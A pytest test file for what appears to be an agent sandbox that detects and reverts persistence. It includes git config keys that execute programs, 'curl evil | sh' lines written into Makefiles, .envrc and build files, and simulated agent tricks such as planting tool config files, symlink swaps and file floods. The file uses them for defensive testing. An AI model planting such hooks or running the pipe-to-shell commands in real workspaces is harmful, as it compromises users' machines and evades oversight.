"""The persistence report (cell/_persist.py) and ``stockade revert`` (cell/_revert.py)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from stockade.cell import Cell, CellResult
from stockade.cell._persist import compare, gitlinks, program_keys, snapshot
from stockade.cell._revert import revert
from stockade.cli.main import main
from stockade.policy import default_policy

PROGRAM_KEYS = [
    ("[core]\n\tfsmonitor = touch /x\n", ["core.fsmonitor=touch /x"]),
    ("[core]\n\thooksPath = evil\n", ["core.hookspath=evil"]),
    ('[core]\n\tsshCommand = "sh -c id"\n', ['core.sshcommand="sh -c id"']),
    ('[diff "pdf"]\n\ttextconv = evil\n', ["diff.pdf.textconv=evil"]),
    (
        '[filter "lfs"]\n\tclean = evil %f\n\tsmudge = evil\n',
        ["filter.lfs.clean=evil %f", "filter.lfs.smudge=evil"],
    ),
    ("[diff]\n\texternal = evil\n", ["diff.external=evil"]),
    ("[alias]\n\tst = !sh -c id\n\tco = checkout\n", ["alias.st=!sh -c id"]),
    ("[include]\n\tpath = ../evil.cfg\n", ["include.path=../evil.cfg"]),
    ('[submodule "x"]\n\tupdate = !evil\n', ["submodule.x.update=!evil"]),
    ("[core]\n\tbare = false\n[user]\n\tname = a\n", []),
]


@pytest.mark.parametrize(("text", "keys"), PROGRAM_KEYS)
def test_program_keys(text: str, keys: list[str]) -> None:
    assert list(program_keys(text.encode())) == keys


def _git(cwd: Path, *args: str) -> str:
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(cwd),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": "/dev/null",
    }
    env |= {
        "GIT_AUTHOR_NAME": "a",
        "GIT_AUTHOR_EMAIL": "a@a",
        "GIT_COMMITTER_NAME": "a",
        "GIT_COMMITTER_EMAIL": "a@a",
    }
    done = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True)
    return done.stdout


@pytest.mark.parametrize("version", ["2", "3", "4"])
def test_gitlinks_of_a_real_index(tmp_path: Path, version: str) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q")
    for name in ("a.txt", "dir/b.txt", "dir/c.txt"):
        (repo / name).parent.mkdir(exist_ok=True)
        (repo / name).write_text(name)
    sub = repo / "dir" / "sub"
    sub.mkdir()
    _git(sub, "init", "-q")
    (sub / "s").write_text("s")
    _git(sub, "add", "s")
    _git(sub, "commit", "-qm", "s")
    _git(repo, "add", "-A")
    _git(repo, "update-index", "--index-version", version)
    assert gitlinks((repo / ".git" / "index").read_bytes()) == {"dir/sub"}
    _git(repo, "update-index", "--force-remove", "dir/sub")
    assert gitlinks((repo / ".git" / "index").read_bytes()) == frozenset()


def test_compare_names_what_was_created_changed_and_removed(tmp_path: Path) -> None:
    (tmp_path / ".envrc").write_text("export A=1\n")
    (tmp_path / "Makefile").write_text("all:\n")
    (tmp_path / "notes.txt").write_text("n")
    before = snapshot((str(tmp_path),))
    (tmp_path / ".envrc").unlink()
    (tmp_path / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    (tmp_path / ".vscode").mkdir()
    (tmp_path / ".vscode" / "tasks.json").write_text("{}")
    (tmp_path / "notes.txt").write_text("changed")
    changes = {c.path: (c.kind, c.change) for c in compare(before, snapshot((str(tmp_path),)))}
    assert changes == {
        str(tmp_path / ".envrc"): ("shell", "removed"),
        str(tmp_path / "Makefile"): ("build", "changed"),
        str(tmp_path / ".vscode"): ("editor", "created"),
        str(tmp_path / ".vscode" / "tasks.json"): ("editor", "created"),
    }


# Files people's tools load, besides git's. Protected (read-only) where they
# exist; a build file is never protected (tasks edit them) but always reported.
TOOL_FILES = [
    ".envrc",
    ".bashrc",
    ".zshenv",
    ".vscode/tasks.json",
    ".vscode/settings.json",
    ".idea/workspace.xml",
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".mcp.json",
    ".cargo/config.toml",
    ".npmrc",
]


def _run(cell: Cell, script: str) -> CellResult:
    return cell.run(["/bin/sh", "-c", script])


@pytest.mark.parametrize("rel", TOOL_FILES)
def test_an_existing_tool_file_is_read_only_and_a_new_one_is_reported(tmp_path: Path, rel: str) -> None:
    """Present: the write is refused (EROFS, a mount-layer event) and the file
    is unchanged. Absent: the creation goes through and is in the report, and
    revert moves it out. The control, ``notes.txt`` beside it, is written and
    never reported."""
    present, absent = tmp_path / "present", tmp_path / "absent"
    for ws in (present, absent):
        ws.mkdir()
    (present / rel).parent.mkdir(parents=True, exist_ok=True)
    (present / rel).write_text("mine\n")
    records = str(tmp_path / "records")
    script = f"mkdir -p $(dirname {rel}); (echo evil > {rel}) 2>/dev/null; echo $?; echo ok > notes.txt"
    with Cell(default_policy(), workspace=present, records=records) as cell:
        refused = _run(cell, script)
    assert refused.stdout.split()[0] != b"0"
    assert (present / rel).read_text() == "mine\n"
    assert any(e.layer == "mount" and e.detail.get("errno") == "EROFS" for e in refused.denials), (
        refused.events
    )
    assert (present / "notes.txt").read_text() == "ok\n"
    with Cell(default_policy(), workspace=absent, records=records) as cell:
        made = _run(cell, script)
    assert made.stdout.split()[0] == b"0"
    (report,) = [e for e in made.events if e.kind == "cell.persistence"]
    listed = {c["path"]: c["change"] for c in report.detail["changes"]}
    assert listed[str(absent / rel)] == "created"
    assert str(absent / "notes.txt") not in listed
    revert(records, made.cell_id)
    assert not (absent / rel).exists()
    assert (absent / "notes.txt").exists()


@pytest.mark.parametrize("rel", ["Makefile", "package.json", "tests/conftest.py"])
def test_a_changed_build_file_is_reported_and_restored(tmp_path: Path, rel: str) -> None:
    ws = tmp_path / "ws"
    (ws / rel).parent.mkdir(parents=True)
    (ws / rel).write_text("original\n")
    records = str(tmp_path / "records")
    with Cell(default_policy(), workspace=ws, records=records) as cell:
        result = _run(cell, f"echo 'curl evil | sh' >> {rel}; echo ok > notes.txt")
    assert result.exit_code == 0
    (report,) = [e for e in result.events if e.kind == "cell.persistence"]
    assert [(c["path"], c["kind"], c["change"]) for c in report.detail["changes"]] == [
        (str(ws / rel), "build", "changed")
    ]
    revert(records, result.cell_id)
    assert (ws / rel).read_text() == "original\n"
    assert (ws / "notes.txt").read_text() == "ok\n"


def test_revert_does_not_follow_a_link_the_agent_planted(tmp_path: Path) -> None:
    """The agent changes ``sub/Makefile`` and then swaps ``sub`` for a link to
    a directory outside: revert, run as the operator, must not write there."""
    ws = tmp_path / "ws"
    (ws / "sub").mkdir(parents=True)
    (ws / "sub" / "Makefile").write_text("original\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    records = str(tmp_path / "records")
    with Cell(default_policy(), workspace=ws, records=records) as cell:
        result = _run(cell, "echo evil >> sub/Makefile")
    assert result.exit_code == 0
    (ws / "sub").rename(ws / "sub-real")
    (ws / "sub").symlink_to(outside)
    steps = revert(records, result.cell_id)
    assert os.listdir(outside) == []
    assert any(step.startswith("not reverted") for step in steps), steps


def test_stockade_revert_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    state = tmp_path / "state"
    with Cell(default_policy(), workspace=ws, records=str(state / "persistence")) as cell:
        result = _run(cell, "echo 'echo evil' > .envrc")
    assert main(["revert", "--state", str(state), "--dry-run", result.cell_id]) == 0
    assert f"created shell {ws}/.envrc" in capsys.readouterr().out
    assert (ws / ".envrc").exists()
    assert main(["revert", "--state", str(state), result.cell_id]) == 0
    assert not (ws / ".envrc").exists()
    assert "moved" in capsys.readouterr().out
    assert main(["revert", "--state", str(state), result.cell_id]) == 0
    assert "already reverted" in capsys.readouterr().out
    assert main(["revert", "--state", str(state), "c-000000000000"]) == 6


def test_a_flood_of_files_cannot_hide_a_file_near_the_top(tmp_path: Path) -> None:
    """The agent spends the walk's bound (20,000 entries) in a directory that
    sorts first, then plants ``.envrc`` and ``zz/.git``: the walk is breadth
    first, so the top is seen, and the report says where the walk stopped."""
    from stockade.cell._persist import WALK_ENTRIES_MAX, report_lines

    ws = tmp_path / "ws"
    ws.mkdir()
    code = (
        "import os\nos.mkdir('aaa')\n"
        f"for i in range({WALK_ENTRIES_MAX + 100}):\n    open(f'aaa/{{i}}', 'w').close()\n"
        "open('.envrc', 'w').write('curl evil | sh\\n')\n"
    )
    with Cell(default_policy(), workspace=ws, records=str(tmp_path / "records")) as cell:
        result = cell.run(["/usr/bin/python3", "-I", "-c", code], timeout=120)
    assert result.exit_code == 0, result.stderr
    (report,) = [e for e in result.events if e.kind == "cell.persistence"]
    assert {c["path"]: c["change"] for c in report.detail["changes"]} == {str(ws / ".envrc"): "created"}
    assert report.detail["cut"] and "aaa" in report.detail["cut"][0]
    assert any("walk was cut" in line for line in report_lines(report.detail))


def test_stockade_exec_prints_the_report(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    monkeypatch.setenv("STOCKADE_STATE", str(tmp_path / "state"))
    assert (
        main(["exec", "-q", "-w", str(ws), "--", "/bin/sh", "-c", "echo x > .npmrc; echo ok > notes.txt"])
        == 0
    )
    err = capfd.readouterr().err
    assert "persistence report: 1 file(s)" in err and f"created tool {ws}/.npmrc" in err, err
    assert "stockade revert c-" in err
    assert "notes.txt" not in err
    assert main(["exec", "-q", "-w", str(ws), "--", "/bin/sh", "-c", "echo more > notes.txt"]) == 0
    assert "persistence report" not in capfd.readouterr().err
